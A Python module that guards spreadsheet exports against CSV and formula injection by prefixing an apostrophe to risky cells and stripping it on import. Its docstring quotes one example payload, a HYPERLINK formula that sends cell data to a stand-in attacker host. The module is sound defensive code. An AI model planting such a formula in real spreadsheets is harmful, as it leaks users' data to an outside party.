"""Cells that spreadsheets read as text, never as formulas (CSV and formula injection).

Excel, LibreOffice and Google Sheets run a cell that starts with ``=``, ``+``, ``-`` or ``@``
as a formula, in a CSV file too, and a tab or carriage return in front is skipped first. A
source title such as ``=HYPERLINK("http://evil.example/?"&A1, "details")`` would otherwise
become a live link that sends the sheet's data away. Every CSV and XLSX the atlas writes puts
an apostrophe in front of such text (the OWASP advice), which spreadsheets show as the text it
is; numbers are left alone, so ``-3`` (or the text "-3") stays a number. Importing takes the
apostrophe off again, so a file exported, edited and imported back changes nothing.
"""

from __future__ import annotations

import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
GUARD = "'"
_NUMBER = re.compile(r"[-+]?\d+(\.\d+)?")


def neutralised(value):
    """``value`` as a spreadsheet should store it: text that could run as a formula guarded."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value):
        return GUARD + value
    return value


def unguarded(value):
    """What ``neutralised`` wrote, read back: the guard taken off text it was put on."""
    if isinstance(value, str) and value.startswith(GUARD) and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value
